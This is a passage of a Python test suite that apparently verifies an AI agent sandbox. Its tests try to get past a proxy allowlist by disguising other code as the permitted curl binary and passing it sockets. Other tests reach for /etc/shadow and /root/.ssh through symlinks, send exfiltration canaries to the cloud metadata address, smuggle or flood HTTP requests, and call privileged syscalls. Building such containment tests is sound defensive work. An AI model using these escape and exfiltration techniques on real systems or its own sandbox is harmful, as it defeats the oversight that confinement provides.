ASK = f"GET http://{ALLOWED}/public/a HTTP/1.1\r\nHost: {ALLOWED}\r\nConnection: close\r\n\r\n".encode()
@q
def id_fd_passing():
    "a connection of ours, handed to the permitted binary in a message while it is accepted"
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
    s = socket.socket(); s.settimeout(T); s.connect(PROXY); s.sendall(ASK)
    b.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [s.fileno()]))])
    k = subprocess.Popen(['/usr/bin/curl', '-s', '--max-time', '3', 'telnet://127.0.0.1:9'], pass_fds=[a.fileno()]); r = rx(s); k.kill(); judge_reply(r)
@q
def id_inherit():
    "a connection of ours that the permitted binary holds as well, and only it after we have closed ours"
    s = socket.socket(); s.settimeout(T); s.set_inheritable(True); p_ = os.fork()
    if p_ == 0: os.execv('/usr/bin/curl', ['curl', '-s', '--max-time', '4', f'http://{ALLOWED}/public/slow'])
    s.connect(PROXY); s.sendall(ASK); r = rx(s); os.kill(p_, 9); judge_reply(r)
@q
def id_unconnected():
    "a socket made here, connected by nobody else: the permitted binary runs beside us as our parent and our child"
    code = f"import socket;s=socket.create_connection({PROXY!r},5);s.sendall({ASK!r});s.settimeout(4);print(s.recv(400))"
    try_allowed_as(['/bin/sh', '-c', 'exec -a /usr/bin/curl ' + PY + ' -c "$0"', code])
@q
def id_thread_exec():
    "a thread connects and asks while another makes the process the permitted binary"
    code = f"import socket,threading,os,time\ns=socket.socket();s.set_inheritable(True)\np=os.dup(s.fileno());os.set_inheritable(p,True)\nif os.fork()==0:\n  time.sleep(1);s.settimeout(4);print(s.recv(400));os._exit(0)\nt=threading.Thread(target=lambda:os.execv('/usr/bin/curl',['curl','-s','--max-time','3','telnet://127.0.0.1:9']));s.connect({PROXY!r});s.sendall({ASK!r});t.start();time.sleep(5)"
    try_allowed_as([PY, '-c', code])
@q
def id_memfd_connect():
    "a program that is memory alone, with the permitted name"
    fd = os.memfd_create('/usr/bin/curl', 0); os.write(fd, open(PY, 'rb').read()); os.set_inheritable(fd, True)
    try_allowed_as([f'/proc/self/fd/{fd}', '-c', GETTER], pass_fds=[fd])
@q
def id_rename_race():
    "a copy of ours moved over a name in a folder of ours, linked to the permitted binary before"
    d = tmpd(); import shutil; os.symlink('/usr/bin/curl', d + '/curl'); shutil.copy(PY, d + '/py'); os.rename(d + '/py', d + '/curl'); try_allowed_as([d + '/curl', '-c', GETTER])
@q
def id_script():
    "a script with the permitted binary in its first line, and one with the permitted name"
    d = tmpd(); open(d + '/curl', 'w').write(f'#!{PY}\n{GETTER}\n'); os.chmod(d + '/curl', 0o755); try_allowed_as([d + '/curl'])
@q
def id_bind_over():
    "nothing may be mounted or moved over the permitted binary"
    hits = []
    for f in (lambda: os.rename(PY, '/usr/bin/curl'), lambda: os.symlink(PY, '/usr/bin/curl'), lambda: os.unlink('/usr/bin/curl'), lambda: os.truncate('/usr/bin/curl', 0), lambda: os.setxattr('/usr/bin/curl', 'user.x', b'y'), lambda: os.utime('/usr/bin/curl')):
        try: f(); hits.append(1)
        except OSError: pass
    if libc.mount(PY.encode(), b'/usr/bin/curl', None, 4096, None) == 0: hits.append('bind')
    out('escaped', hits) if hits else out('contained')
# ---- processes and kernel ---------------------------------------------------------------------
@q
def proc_fds():
    "descriptors of the first process and of whoever started us, through /proc"
    hits = []
    for p_ in [x for x in os.listdir('/proc') if x.isdigit() and int(x) not in (os.getpid(),)]:
        for what in ('fd', 'fdinfo', 'map_files', 'task', 'mem', 'environ', 'auxv', 'stack', 'syscall', 'root', 'cwd', 'exe', 'ns/net', 'io', 'personality'):
            if p_ != '1': continue
            q_ = f'/proc/{p_}/{what}'
            try:
                if os.path.isdir(q_): x = os.listdir(q_); what != 'task' and x and hits.append((q_, x[:3]))
                elif what in ('root', 'cwd', 'exe', 'ns/net'): hits.append((q_, os.readlink(q_)))
                else: x = open(q_, 'rb').read(1); hits.append((q_, x))
            except OSError: pass
    out('escaped', hits) if hits else out('contained')
@q
def syscalls():
    "calls that no agent needs: none may be possible"
    b = ctypes.create_string_buffer(256); x = {'io_uring_setup': (425, 8, b), 'io_uring_enter': (426, -1, 0, 0, 0, 0, 0), 'userfaultfd': (323, 0), 'userfaultfd(user)': (323, 1), 'pidfd_getfd': (438, -1, 0, 0), 'kcmp': (312, os.getpid(), os.getpid(), 0, 0, 0), 'process_vm_readv': (310, 1, b, 1, b, 1, 0), 'process_madvise': (440, -1, b, 1, 0, 0), 'fanotify_init': (300, 0, 0), 'open_tree': (428, -100, b'/', 0), 'mount_setattr': (442, -1, b'', 0, b, 32), 'fsopen': (430, b'proc', 0), 'name_to_handle_at': (303, -100, b'/', b, b, 0), 'perf_event_open': (298, b, 0, -1, -1, 0), 'bpf': (321, 0, b, 72), 'add_key': (248, b'user', b'a', b'b', 1, -3), 'request_key': (249, b'user', b'a', 0, -3), 'keyctl': (250, 0, -3, 0), 'setns': (308, -1, 0), 'iopl': (172, 3), 'kexec_load': (246, 0, 0, 0, 0), 'init_module': (175, 0, 0, b''), 'finit_module': (313, -1, b'', 0), 'delete_module': (176, b'x', 0), 'swapon': (167, b'/x', 0), 'quotactl': (179, 0, 0, 0, 0), 'acct': (163, 0), 'syslog': (103, 3, b, 200), 'modify_ldt': (154, 1, b, 16), 'pivot_root': (155, b'/', b'/'), 'chroot': (161, b'/'), 'vhangup': (153,), 'unshare(time)': (272, 0x80), 'unshare(cgroup)': (272, 0x02000000), 'unshare(pid)': (272, 0x20000000), 'unshare(ns)': (272, 0x00020000), 'unshare(uts)': (272, 0x04000000), 'unshare(ipc)': (272, 0x08000000), 'clone3': (435, b, 88), 'seccomp(listener)': (317, 1, 8, b), 'lookup_dcookie': (212, 0, b, 8), 'move_pages': (279, 0, 0, 0, 0, 0, 0), 'migrate_pages': (256, 0, 0, 0, 0), 'clock_settime': (227, 0, b), 'adjtimex': (159, b'\1' + b'\0' * 255), 'settimeofday': (164, b, 0), 'reboot': (169, 1, 2, 3, 0), 'sethostname': (170, b'x', 1)}
    hits = []
    if os.uname().machine != 'x86_64': out('n/a', os.uname().machine)
    for n, a in x.items():
        r, e = sysc(*a)
        if r >= 0 or e not in (errno.EPERM, errno.EACCES, errno.ENOSYS): hits.append((n, r, errno.errorcode.get(e, e)))
    out('escaped', hits) if hits else out('contained', f'{len(x)} calls')
@q
def sockets():
    "every address family and every protocol but those of plain TCP, UDP and UNIX"
    hits = []
    for f in range(1, 46):
        for t in (1, 2, 3, 4, 5, 6, 10):
            for pr in (0, 1, 2, 17, 33, 58, 132, 136, 255, 256, 262):
                if f in (1, 2, 10) and t in (1, 2) and pr in (0, 17): continue
                if f == 1 or (f == 16 and t in (2, 3) and pr == 0): continue
                try: s = socket.socket(f, t, pr); s.close(); hits.append((f, t, pr))
                except OSError: pass
    try: socket.socketpair(2, 1); hits.append('socketpair')
    except (OSError, ValueError): pass
    out('escaped', hits) if hits else out('contained')
@q
def fast_open():
    "every way to send before connect() was asked about"
    hits = []; a = (LAB, 80)
    for f in (lambda s: s.sendto(http(LAB), 0x20000000, a), lambda s: s.sendmsg([http(LAB)], [], 0x20000000, a), lambda s: (s.setsockopt(6, 30, 1), s.connect(a), s.send(http(LAB)))):
        s = socket.socket(); s.settimeout(1.5)
        try: f(s); b = rx(s); b'SINK-OK' in b and hits.append(b[:60])
        except OSError: pass
        s.close()
    out('escaped', hits) if hits else out('contained')
@q
def udp_ports():
    "datagrams to every address and port that might answer"
    hits = []
    for fam, ips in ((socket.AF_INET, (LAB, '8.8.8.8', '169.254.169.254', '255.255.255.255', '224.0.0.1')), (socket.AF_INET6, (LAB6, '::ffff:' + LAB, 'ff02::1', 'fd00:ec2::254'))):
        for ip in ips:
            for port in (123, 443, 500, 1900, 4500, 5353, 51820):
                s = socket.socket(fam, socket.SOCK_DGRAM); s.settimeout(0.15); s.setsockopt(1, 6, 1)
                try: s.sendto(b'exfil ' + CANARY.encode(), (ip, port)); s.recv(100); hits.append((ip, port))
                except OSError: pass
                s.close()
    out('escaped', hits) if hits else out('contained')
@q
def ports():
    "direct connections to many ports of the sinks, IPv4, mapped and IPv6: no request that policy does not permit arrives"
    hits = []
    for fam, ip in ((socket.AF_INET, LAB), (socket.AF_INET6, '::ffff:' + LAB), (socket.AF_INET6, LAB6), (socket.AF_INET, '169.254.169.254'), (socket.AF_INET, '10.77.0.10'), (socket.AF_INET6, 'fd00:ec2::254')):
        for port in (22, 53, 80, 443, 853, 5432, 8080):
            for host in (ALLOWED, DENIED):
                s = socket.socket(fam); s.settimeout(0.7)
                try: s.connect((ip, port)); s.sendall(get('/secret', host=host)); b'SINK-OK' in rx(s) and hits.append((ip, port, host))
                except OSError: pass
                s.close()
                if port in (22, 53, 443, 853, 5432): break
    out('escaped', hits) if hits else out('contained')
@q
def captured_host():
    "captured connections to the permitted name with another host, another port, another name in TLS"
    hits = []
    for port, host in ((80, DENIED), (80, f'{ALLOWED}:22'), (8080, ALLOWED), (22, ALLOWED), (5432, ALLOWED)):
        try:
            s = socket.create_connection((ALLOWED, port), 2); s.sendall(get('/public/a', host=host)); b = rx(s); b'SINK-OK' in b and hits.append((port, host))
        except OSError: pass
    try:
        s = socket.create_connection((ALLOWED, 443), 2); t = ssl._create_unverified_context().wrap_socket(s, server_hostname=DENIED); hits.append('denied name in TLS')
    except OSError: pass
    out('escaped', hits) if hits else out('contained')
@q
def abstract_sockets():
    "abstract sockets that /proc/net/unix tells of, and the usual ones of a desktop"
    names = {l.split()[-1][1:] for l in open('/proc/net/unix').read().splitlines()[1:] if ' @' in l} | {'hs-host', '/tmp/.X11-unix/X0', '/tmp/dbus-x', '/containerd-shim/x.sock', 'docker', 'openshell'}
    hits = []
    for n in names:
        for t in (1, 2, 5):
            s = socket.socket(socket.AF_UNIX, t)
            try: s.connect('\0' + n); hits.append(n)
            except OSError: pass
            s.close()
    out('escaped', hits) if hits else out('contained', f'{len(names)} names')
@q
def ptrace_sibling():
    "a sibling and a child are not ours to trace, to read or to write"
    k = subprocess.Popen(['/bin/sleep', '5']); hits = []
    for a in ((101, 16, k.pid, 0, 0), (101, 0x4206, k.pid, 0, 0), (438, sysc(434, k.pid, 0)[0], 0, 0)):
        if sysc(*a)[0] >= 0: hits.append(a[:2])
    p_ = os.fork()
    if p_ == 0: os._exit(1 if sysc(101, 0, 0, 0, 0)[0] >= 0 else 0)
    if os.waitpid(p_, 0)[1]: hits.append('traceme')
    k.kill(); out('escaped', hits) if hits else out('contained')
@q
def half_open(n='300'):
    "many connections that never say enough: the permitted request still works, a denied one does not"
    ss = []
    for i in range(int(n)):
        s = socket.socket(); s.settimeout(2)
        try: s.connect(PROXY); s.sendall((b'', b'GET', b'CONNECT ', b'GET http://' + ALLOWED.encode() + b'/public/a HTTP/1.1\r\nHost:', b'\x16\x03\x01')[i % 5]); ss.append(s)
        except OSError: break
    b = ask(get(f'http://{ALLOWED}/secret'), 5); out('escaped', b[:80]) if b'SINK-OK' in b else out('contained', f'{len(ss)} open, answered {b[:30]}')
@q
def slow_head(limit='40'):
    "a head that grows by a byte a second is not waited for, however it grows"
    s = socket.socket(); s.settimeout(1); s.connect(PROXY); s.sendall(b'GET http://'); end = time.time() + float(limit)
    while time.time() < end:
        try:
            s.sendall(b'x')
            if s.recv(10) is not None: out('contained', 'closed by the proxy')
        except socket.timeout: continue
        except OSError: out('contained', 'closed by the proxy')
    out('escaped', f'half a head kept for {limit} s')
@q
def large_heads():
    "heads without end are cut off, whatever they consist of"
    hits = []
    for n, pay in (('line', b'GET http://' + ALLOWED.encode() + b'/public/' + b'a' * 2000000), ('field', f'GET {OPEN} HTTP/1.1\r\nHost: {ALLOWED}\r\nX: '.encode() + b'a' * 2000000 + b'\r\n\r\n'), ('fields', f'GET {OPEN} HTTP/1.1\r\nHost: {ALLOWED}\r\n'.encode() + b'X: a\r\n' * 200000 + b'\r\n'), ('authority', b'CONNECT ' + b'a' * 1000000 + b':80 HTTP/1.1\r\n\r\n')):
        if b'SINK-OK' in ask(pay, 2): hits.append(n)
    out('escaped', hits) if hits else out('contained')
# ---- files ------------------------------------------------------------------------------------
@q
def links():
    "links and renames out of the work directory, relative, absolute, through /proc and through descriptors"
    d = tmpd(); hits = []
    for t in ('/etc/shadow', '/root', '/proc/1/root', '/proc/1/cwd', '/proc/self/root/../../root', '../' * 40 + 'root', '/home', '/var/lib', '/boot', '/run', '/opt', '/srv', '/mnt'):
        l = f'{d}/{len(t)}{abs(hash(t))}'; os.symlink(t, l)
        try: x = os.listdir(l); x and hits.append((t, x[:2]))
        except NotADirectoryError:
            if can(l): hits.append(t)
        except OSError: pass
    fd = os.open('/', os.O_RDONLY)
    for t in ('../root', '../' * 30 + 'root', 'root', '.././/root/.ssh'):
        try: hits.append((t, os.open(t, os.O_RDONLY, dir_fd=fd)))
        except OSError: pass
    out('escaped', hits) if hits else out('contained')
@q
def devices():
    "no device but those that every program has"
    hits = []
    for b, _, fs in os.walk('/dev'):
        for f in fs:
            q_ = os.path.join(b, f)
            try: m = os.stat(q_)
            except OSError: continue
            import stat
            if stat.S_ISBLK(m.st_mode) or (stat.S_ISCHR(m.st_mode) and f not in ('null', 'zero', 'full', 'random', 'urandom', 'tty', 'ptmx') and '/pts' not in b): can(q_) and hits.append(q_)
    for mj, mn in ((1, 1), (1, 2), (1, 4), (8, 0), (10, 200), (10, 229), (10, 232), (253, 0), (254, 0)):
        for kind in (0o20000, 0o60000):
            n = f'/tmp/d{mj}-{mn}-{kind}'
            try: os.mknod(n, kind | 0o600, os.makedev(mj, mn)); can(n) and hits.append(n)
            except OSError: pass
    out('escaped', hits) if hits else out('contained')
@q
def kernel_files():
    "files of the kernel that change or tell of the host"
    hits = []
    for b in ('/proc/sys', '/sys'):
        for base_, _, fs in os.walk(b):
            for f in fs:
                q_ = os.path.join(base_, f)
                if os.access(q_, os.W_OK):
                    try: os.close(os.open(q_, os.O_WRONLY)); hits.append(q_)
                    except OSError: pass
    for f in ('/proc/kcore', '/proc/kallsyms', '/proc/kmsg', '/proc/sysrq-trigger', '/proc/timer_list', '/proc/keys', '/proc/sched_debug', '/proc/kpagecount', '/sys/kernel/debug', '/sys/kernel/security', '/sys/fs/bpf', '/proc/scsi', '/proc/acpi', '/sys/firmware'):
        try:
            x = os.listdir(f) if os.path.isdir(f) else open(f, 'rb').read(64)
            if f.endswith('kallsyms') and set(x[:16]) == {48}: continue
            if x: hits.append(f)
        except OSError: pass
    out('escaped', hits[:8]) if hits else out('contained')
@q
def setid_files():
    "a set-user-id or set-group-id file of ours gives nothing, and none of the system's does"
    import shutil
    d = tmpd(); shutil.copy('/usr/bin/id', d + '/id'); hits = []
    try: os.chmod(d + '/id', 0o6755); o = subprocess.run([d + '/id', '-u'], capture_output=True, text=True).stdout.strip(); o == '0' and hits.append('ours')
    except OSError: pass
    for f in ('setuid', 'setgid', 'setresuid', 'setfsuid'):
        if f == 'setresuid': r = libc.setresuid(0, 0, 0)
        elif f == 'setfsuid': libc.setfsuid(0); r = 0 if libc.setfsuid(0xffffffff) == 0 else -1
        else: r = getattr(libc, f)(0)
        if r == 0 and (os.geteuid() == 0 or f in ('setgid',) and os.getegid() == 0): hits.append(f)
    try: os.setgroups([0]); hits.append('setgroups')
    except OSError: pass
    out('escaped', hits) if hits else out('contained')

# What is refused because nothing works proves nothing: the permitted request comes first.
PLAIN = set('connect-forms absolute-forms address-forms paths-again methods overrides hop-by-hop proxy-connection connect-in-tunnel connect-with-body early-bytes get-cl get-te chunk-sizes trailers expect-continue websocket-smuggle half-open large-heads'.split())
TLS = set('hello-fragments hello-names hello-two-names ech-grease tls-odd tls-host'.split())
H2 = set('h2-pseudo h2-headers h2-streams'.split())
def control(name):
    if name in PLAIN and b'SINK-OK' not in ask(get(OPEN)): out('n/a', 'the permitted request does not work')
    if name in TLS and not greeted(f'{ALLOWED}:443', [hello(ALLOWED)]): out('n/a', 'the permitted name does not work')
    if name in H2 and b'SINK-OK' not in h2(base()): out('n/a', 'the permitted request over HTTP/2 does not work')

if __name__ == '__main__':
    if len(sys.argv) < 2 or sys.argv[1] not in MINE: print(' '.join(sorted(MINE))); sys.exit(64)
    if not E('IN_SANDBOX'): out('n/a', 'set IN_SANDBOX=1, inside a sandbox only')
    try: control(sys.argv[1]); MINE[sys.argv[1]](*sys.argv[2:])
    except SystemExit: raise
    except BaseException as e: out('n/a', f'{type(e).__name__}: {e}')
    out('n/a', 'no verdict')
